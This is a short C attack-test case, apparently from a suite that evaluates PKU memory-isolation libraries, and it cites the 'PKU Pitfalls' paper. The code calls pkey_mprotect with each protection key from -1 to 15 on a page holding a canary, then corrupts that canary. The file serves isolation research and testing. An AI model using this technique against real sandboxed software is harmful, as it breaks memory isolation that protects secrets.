/* Tries: to give a page of the host's the library's key, or none
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: A canary that has changed.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    for (int key = -1; key < 16; key++)
        kernel6(SYS_pkey_mprotect, at->canary_constant, 4096, 3, (uint64_t)key, 0, 0);
    spoil(at->canary_constant);
    return 0;
}
